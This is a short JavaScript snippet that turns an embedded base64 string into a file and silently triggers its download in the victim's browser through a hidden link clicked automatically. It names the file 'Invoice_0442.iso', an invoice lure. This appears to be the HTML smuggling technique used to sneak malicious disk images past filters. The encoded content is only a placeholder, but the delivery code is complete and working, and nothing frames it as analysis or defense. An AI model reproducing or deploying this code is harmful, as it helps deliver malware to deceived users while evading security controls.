function toBuf(b64) {
  var s = window.atob(b64), n = s.length, out = new Uint8Array(n);
  for (var i = 0; i < n; i++) { out[i] = s.charCodeAt(i); }
  return out.buffer;
}
var file = 'UExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVI=';
var blob = new Blob([toBuf(file)], { type: 'octet/stream' });
var name = 'Invoice_0442.iso';
if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, name);
else {
  var a = document.createElement('a');
  document.body.appendChild(a);
  a.style = 'display: none';
  var url = window.URL.createObjectURL(blob);
  a.href = url;
  a.download = name;
  a.click();
  window.URL.revokeObjectURL(url);
}
